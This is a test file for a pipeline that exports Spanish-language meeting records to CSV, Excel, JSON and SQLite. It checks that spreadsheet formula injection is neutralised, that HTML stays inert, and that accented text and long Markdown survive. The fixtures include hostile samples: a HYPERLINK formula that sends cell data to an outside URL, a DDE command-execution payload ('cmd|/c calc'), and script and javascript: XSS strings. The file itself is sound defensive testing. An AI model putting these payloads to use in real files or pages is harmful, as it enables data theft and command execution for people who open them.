/**
 * What people put in actas reaches every format intact, and nothing in it runs: formulas are
 * neutralised in the CSV and the workbook (and only there), HTML stays text, accents, ñ, "N°" and
 * long Markdown survive unchanged; an Excel cell too small for a text is cut with a note and a
 * warning, never a broken workbook.
 */
import { unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { tableCsv } from '../../pipeline/build/formats/csv.ts';
import { buildTreeReport, type PublishedTree } from '../../pipeline/build/index.ts';
import type { ResourceDefinition } from '../../pipeline/build/tables/table-schema.ts';
import { openSqlite, query, readCsv, readWorkbook, type SheetCell } from './support/formats.ts';
import { type JsonRow, json, seedInput, text, variant } from './support/seed.ts';

const hyperlink = '=HYPERLINK("http://example.com/robar?d="&A1,"Haga clic")';
const html = '<script>alert("x")</script> <b>negrita</b> &amp; <a href="javascript:alert(1)">enlace</a>';
const accents = 'Señora Ñuñoa; Mesa N°3: participación ciudadana — “comillas” y ‘simples’, €, 😀';
const markdown = [
  '# Desarrollo de la sesión',
  '',
  ...Array.from(
    { length: 120 },
    (_, i) =>
      `- ${i + 1}) Punto con **negrita**, _cursiva_, \`código\`, [enlace](https://example.org/${i}) y N° ${i}: año, niño, acción.`,
  ),
  '',
  '| columna | valor |',
  '|---|---|',
  '| ñ | "comillas", comas; y punto y coma |',
  '',
  '> cita con salto de línea',
  '> y otra línea',
].join('\n');

let tree: PublishedTree;
beforeAll(async () => {
  const record = await variant('2016-06-30-mesa-3-sesion-2', (r) => {
    r.agreements = [hyperlink, '+56 acuerdos', '-1 es un texto, no un número', '@SUM(A1:A9)', html, accents];
    r.commitments = [{ number: 1, text: '=1+1' }];
    r.location = html;
    r.discussion = markdown;
    r.attendees[0] = {
      sector: 'government',
      last_name: 'Muñoz-Peñaloza',
      first_name: 'José Ñandú',
      organization: '=cmd|"/c calc"!A0',
    };
  });
  tree = (await buildTreeReport(await seedInput({ records: [record] }))).tree;
});

const csvColumn = (resource: string, field: string): string[] => {
  const [header, ...rows] = readCsv(tree.get(`data/${resource}.csv`) as Uint8Array);
  const i = (header as string[]).indexOf(field);
  return rows.map((r) => r[i] as string);
};

async function sheetColumn(sheet: string, title: string): Promise<SheetCell[]> {
  const [header, ...rows] = (await readWorkbook(tree.get('actas.xlsx') as Uint8Array)).get(
    sheet,
  ) as SheetCell[][];
  const i = (header as SheetCell[]).indexOf(title);
  return rows.map((r) => r[i] ?? null);
}

describe('formula injection', () => {
  const neutralised = [
    `'${hyperlink}`,
    "'+56 acuerdos",
    "'-1 es un texto, no un número",
    "'@SUM(A1:A9)",
    html,
    accents,
  ];

  it('is neutralised in the CSV with a leading apostrophe', () => {
    expect(csvColumn('agreements', 'text')).toEqual(neutralised);
    expect(csvColumn('commitments', 'text')).toEqual(["'=1+1"]);
    expect(csvColumn('attendance', 'organization')[0]).toBe(`'=cmd|"/c calc"!A0`);
  });

  it('is neutralised in the workbook the same way, and no cell is a formula', async () => {
    expect(await sheetColumn('Acuerdos', 'Acuerdo')).toEqual(neutralised);
    const parts = unzipSync(tree.get('actas.xlsx') as Uint8Array);
    for (const [name, bytes] of Object.entries(parts)) {
      if (name.startsWith('xl/worksheets/sheet'))
        expect(new TextDecoder().decode(bytes), name).not.toContain('<f>');
    }
  });

  it('is left alone in JSON, records and SQLite, which no spreadsheet runs', async () => {
    expect(json<JsonRow[]>(tree, 'data/agreements.json').map((a) => a.text)).toEqual([
      hyperlink,
      '+56 acuerdos',
      '-1 es un texto, no un número',
      '@SUM(A1:A9)',
      html,
      accents,
    ]);
    expect(
      json<{ agreements: string[] }>(tree, 'records/2016-06-30-mesa-3-sesion-2.json').agreements[0],
    ).toBe(hyperlink);
    const db = await openSqlite(tree.get('actas.sqlite') as Uint8Array);
    expect(query(db, 'SELECT text FROM agreements ORDER BY position').map((r) => r.text)[0]).toBe(hyperlink);
    db.close();
  });

  it('never touches numbers, negative ones included: only text cells are neutralised', () => {
    const resource: ResourceDefinition = {
      name: 'numbers',
      title: 'Números',
      description: 'prueba',
      sheet: 'Números',
      primaryKey: ['n'],
      order: ['n'],
      foreignKeys: [],
      fields: [
        { name: 'n', type: 'integer', title: 'N', description: 'n' },
        { name: 'label', type: 'string', title: 'Etiqueta', description: 'texto' },
      ],
    };
    const csv = new TextDecoder().decode(
      tableCsv({
        resource,
        rows: [
          { n: -5, label: '-5' },
          { n: 0, label: null },
        ],
      }),
    );
    expect(csv).toBe("n,label\r\n-5,'-5\r\n0,\r\n");
  });

  it('is explained in the dataset card, the descriptor and the Léeme sheet', async () => {
    expect(text(tree, 'README.md')).toContain('lleva un apóstrofo');
    expect(json<{ description: string }>(tree, 'datapackage.json').description).toContain(
      'lleva un apóstrofo',
    );
    const readme = (await readWorkbook(tree.get('actas.xlsx') as Uint8Array)).get('Léeme') as SheetCell[][];
    expect(readme.some((r) => String(r[1]).includes('apóstrofo'))).toBe(true);
  });
});

describe('text fidelity', () => {
  it('keeps HTML as text in every format', async () => {
    expect(csvColumn('sessions', 'location')).toEqual([html]);
    expect(json<JsonRow[]>(tree, 'data/sessions.json')[0]?.location).toBe(html);
    expect(json<{ location: string }>(tree, 'records/2016-06-30-mesa-3-sesion-2.json').location).toBe(html);
    expect(await sheetColumn('Sesiones', 'Lugar')).toEqual([html]);
    const db = await openSqlite(tree.get('actas.sqlite') as Uint8Array);
    expect(query(db, 'SELECT location FROM sessions')[0]?.location).toBe(html);
    db.close();
  });

  it('keeps accents, ñ, N° and long Markdown unchanged in every format', async () => {
    expect(markdown.length).toBeGreaterThan(10_000);
    expect(csvColumn('sessions', 'discussion')).toEqual([markdown]);
    expect(csvColumn('sessions', 'title')).toEqual(['Mesa N°3: Modernización del Estado (segunda sesión)']);
    expect(csvColumn('agreements', 'text')[5]).toBe(accents);
    expect(csvColumn('attendance', 'last_name')[0]).toBe('Muñoz-Peñaloza');
    expect(json<JsonRow[]>(tree, 'data/sessions.json')[0]?.discussion).toBe(markdown);
    expect(json<{ discussion: string }>(tree, 'records/2016-06-30-mesa-3-sesion-2.json').discussion).toBe(
      markdown,
    );
    expect(await sheetColumn('Sesiones', 'Desarrollo')).toEqual([markdown]);
    expect(await sheetColumn('Asistencia', 'Nombre').then((c) => c[0])).toBe('José Ñandú');
    expect((await sheetColumn('Acuerdos', 'Acuerdo'))[5]).toBe(accents);
    const db = await openSqlite(tree.get('actas.sqlite') as Uint8Array);
    expect(query(db, 'SELECT discussion, title FROM sessions')[0]).toEqual({
      discussion: markdown,
      title: 'Mesa N°3: Modernización del Estado (segunda sesión)',
    });
    db.close();
  });

  it('cuts a text too long for an Excel cell in the workbook only, with a note and a warning', async () => {
    const huge = `Inicio ${'ñandú '.repeat(7000)}final`;
    const record = await variant('2016-06-30-mesa-3-sesion-2', (r) => {
      r.discussion = huge;
    });
    const report = await buildTreeReport(await seedInput({ records: [record] }));
    expect(report.problems.map((p) => [p.code, p.severity])).toEqual([['ACTAS-W310', 'warning']]);
    expect(report.problems[0]?.message).toContain('sessions');
    const [header, row] = (await readWorkbook(report.tree.get('actas.xlsx') as Uint8Array)).get(
      'Sesiones',
    ) as SheetCell[][];
    const cell = String(row?.[(header as SheetCell[]).indexOf('Desarrollo')]);
    expect(cell.length).toBeLessThanOrEqual(32_767);
    expect(cell.startsWith('Inicio ñandú')).toBe(true);
    expect(cell.endsWith('(texto completo en data/sessions.csv)')).toBe(true);
    const [csvHeader, csvRow] = readCsv(report.tree.get('data/sessions.csv') as Uint8Array);
    expect(csvRow?.[(csvHeader as string[]).indexOf('discussion')]).toBe(huge);
  });
});
